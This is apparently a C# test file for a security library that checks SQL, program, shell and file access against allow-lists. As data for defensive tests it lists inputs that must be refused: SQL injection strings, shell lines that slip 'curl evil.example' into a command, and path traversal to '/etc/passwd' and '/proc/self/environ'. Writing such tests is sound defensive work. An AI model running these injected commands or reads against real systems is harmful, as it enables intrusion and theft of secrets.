using System.Text;
using FunctionShield.Calls;
using FunctionShield.Grammars.Sql;
using FunctionShield.Policies;
using FunctionShield.Tests.Support;

namespace FunctionShield.Tests.Policies;

/// <summary>What the lists of statements, programs and files do to calls, outside any invocation.</summary>
public class SqlRulesTests
{
    private readonly CollectingSink _sink = new();

    [Theory]
    [InlineData("""{ "statements": ["select", "insert"] }""", "SELECT name FROM orders", "DELETE FROM orders")]
    [InlineData("""{ "ddl": false }""", "UPDATE orders SET n = 1", "DROP TABLE orders")]
    [InlineData("""{ "ddl": false }""", "SELECT * FROM orders", "SELECT * INTO stolen FROM orders")]
    [InlineData("""{ "stacked": false }""", "SELECT 1;", "SELECT 1; SELECT 2")]
    [InlineData("""{ "tables": ["orders", "Shop.*"] }""", "SELECT * FROM Orders JOIN \"shop\".\"items\" i ON 1 = 1", "SELECT * FROM orders UNION SELECT * FROM users")]
    [InlineData("""{ "tables": ["orders"] }""", "WITH o AS (SELECT * FROM orders) SELECT * FROM o", "WITH o AS (DELETE FROM users RETURNING *) SELECT * FROM orders")]
    [InlineData("""{ "shapes": ["e4410fc28b660cc510f24f992698781b"] }""", "SELECT name FROM orders WHERE id=17 -- why", "SELECT name FROM orders WHERE id=17 OR 1=1")]
    [InlineData("""{ "shapes": ["e4410fc28b660cc510f24f992698781b"] }""", "SELECT name FROM orders WHERE id = @id;", "SELECT name FROM orders WHERE id = @id; SELECT 1")]
    [InlineData("""{ "maxRows": 100 }""", "SELECT * FROM orders LIMIT 100", "SELECT * FROM orders")]
    [InlineData("""{ "maxRows": 100 }""", "SELECT COUNT(*) FROM orders", "SELECT * FROM orders LIMIT 101")]
    [InlineData("""{ "maxRows": 100 }""", "UPDATE orders SET n = 1", "SELECT * FROM orders WHERE id IN (SELECT id FROM x LIMIT 1)")]
    public void A_statement_outside_the_rules_is_refused_and_its_twin_is_not(string rules, string benign, string outside)
    {
        Shield shield = Make("{ \"sql\": " + rules + " }");

        Assert.Equal(Decision.Allow, shield.CheckSql(benign));
        Assert.Throws<ShieldBlockedException>(() => { shield.CheckSql(outside); });
        Assert.Equal("FS-POLICY-04", Assert.Single(_sink.Reports).Rule.Id);
        Assert.Equal(Decision.Allow, Make("{}").CheckSql(outside));
    }

    [Theory]
    [InlineData("""{ "statements": ["call"] }""", "dbo.Archive", false, "dbo.Orders", true)]
    [InlineData("""{ "tables": ["orders"] }""", "[Orders]", true, "[Users]", true)]
    [InlineData("""{ "statements": ["select"] }""", "orders", true, "Archive", false)]
    [InlineData("""{ "shapes": ["c4d06a0b5ec4a62b8fc7a5d5c4a4ea5e"] }""", null, false, "Archive", false)]
    public void A_procedure_or_table_called_by_its_name_is_held_to_the_rules_too(string rules, string? benign, bool isTable, string outside, bool isOutsideTable)
    {
        Shield shield = Make("{ \"sql\": " + rules + " }");
        if (benign is not null)
            Assert.Equal(Decision.Allow, shield.CheckSqlObject(benign, isTable, SqlDialect.SqlServer));
        Assert.Throws<ShieldBlockedException>(() => { shield.CheckSqlObject(outside, isOutsideTable, SqlDialect.SqlServer); });
        Assert.Equal("FS-POLICY-04", Assert.Single(_sink.Reports).Rule.Id);
        Assert.Equal(Decision.Allow, Make("{}").CheckSqlObject(outside, isOutsideTable));
    }

    [Fact]
    public void The_words_are_the_grammars_kinds_in_its_order() =>
        Assert.Equal(PolicyWords.SqlKinds, Enum.GetNames<SqlStatementKind>().Select(name => name == "Definition" ? "ddl" : name.ToLowerInvariant()));

    [Theory]
    [InlineData("""{ "processes": ["/opt/bin/*"] }""", "/opt/bin/ffmpeg|-i|x", "curl|http://evil.example")]
    [InlineData("""{ "processes": { "allow": [] } }""", null, "true")]
    public void A_program_outside_the_list_is_refused(string policy, string? benign, string outside)
    {
        Shield shield = Make(policy);
        if (benign is not null)
            Assert.Equal(Decision.Allow, shield.CheckExec(benign.Split('|')));
        Assert.Throws<ShieldBlockedException>(() => { shield.CheckExec(outside.Split('|')); });
        Assert.Equal("FS-POLICY-05", Assert.Single(_sink.Reports).Rule.Id);
    }

    [Theory]
    [InlineData("convert in.png out.jpg | tee log", null)]
    [InlineData("convert in.png out.jpg; curl evil.example", "curl")]
    [InlineData("convert $(curl evil.example) out.jpg", "curl")]
    [InlineData("if true; then wget x; fi", "true")]
    [InlineData("X=1 $CMD out.jpg", "$CMD")]
    [InlineData("\"con\"vert in.png", null)]
    [InlineData("convert x | tee \"$(date)\"", "date")]
    public void Every_command_of_a_line_must_be_listed(string line, string? refused)
    {
        Shield shield = Make("""{ "processes": ["convert", "tee"] }""");
        if (refused is null)
        {
            Assert.Equal(Decision.Allow, shield.CheckShell(line));
            return;
        }

        Assert.Throws<ShieldBlockedException>(() => { shield.CheckShell(line); });
        Assert.Equal(refused, Assert.Single(_sink.Reports).Evidence);
    }

    [Theory]
    [InlineData("/tmp/a/b.txt", FileAccess.ReadWrite, true)]
    [InlineData("/tmp", FileAccess.Write, true)]
    [InlineData("/var/task/x.json", FileAccess.Read, true)]
    [InlineData("/var/task/x.json", FileAccess.Write, false)]
    [InlineData("/tmpx", FileAccess.Read, false)]
    [InlineData("/tmp/../etc/passwd", FileAccess.Read, false)]
    [InlineData("/proc/self/environ", FileAccess.Read, false)]
    public void A_file_must_be_below_a_root(string path, FileAccess access, bool allowed)
    {
        Shield shield = Make("""{ "files": { "read": ["/tmp", "/var/task/*.json"], "write": ["/tmp/"] } }""");
        if (allowed)
        {
            Assert.Equal(Decision.Allow, shield.CheckFile(path, access));
            return;
        }

        Assert.Throws<ShieldBlockedException>(() => { shield.CheckFile(path, access); });
        Assert.Equal("FS-POLICY-06", Assert.Single(_sink.Reports).Rule.Id);
    }

    [Fact]
    public void A_tool_sees_it_too()
    {
        Shield shield = Make("""{ "sql": { "ddl": false } }""");
        Assert.Equal("FS-POLICY-04", Assert.Single(shield.Examine(OutboundCall.Sql("DROP TABLE t"u8), [])).Rule.Id);
        Assert.Empty(shield.Examine(OutboundCall.Sql("SELECT 1"u8), []));
    }

    [Theory]
    [InlineData("""{ "sql": { "statements": ["selct"] } }""", "$.sql.statements[0]")]
    [InlineData("""{ "sql": { "maxRows": 0 } }""", "$.sql.maxRows")]
    [InlineData("""{ "sql": { "tables": ["a b"] } }""", "$.sql.tables[0]")]
    [InlineData("""{ "sql": { "stacked": "no" } }""", "$.sql.stacked")]
    [InlineData("""{ "sql": [] }""", "$.sql")]
    [InlineData("""{ "processes": 7 }""", "$.processes")]
    [InlineData("""{ "files": { "read": ["tmp"] } }""", "$.files.read[0]")]
    [InlineData("""{ "files": { "read": ["/tmp/../etc"] } }""", "$.files.read[0]")]
    public void A_mistake_is_named_and_makes_nothing_looser(string json, string path)
    {
        PolicyReading reading = PolicyReader.Read(Encoding.UTF8.GetBytes(json), "t", DateTimeOffset.UnixEpoch);
        Assert.Equal(path, Assert.Single(reading.Errors).Path);
        Assert.NotEqual("", reading.Errors[0].Fix);
        Assert.True(reading.Policy.Sql.IsListed || reading.Policy.Paths.Programs.IsListed || reading.Policy.ListsFiles);
    }

    private Shield Make(string policy)
    {
        PolicyReading reading = PolicyReader.Read(Encoding.UTF8.GetBytes(policy), "t", DateTimeOffset.UnixEpoch);
        Assert.Empty(reading.Errors);
        return Shield.Load(new ShieldOptions { Policy = reading.Policy, Reports = _sink, Environment = static _ => null });
    }
}
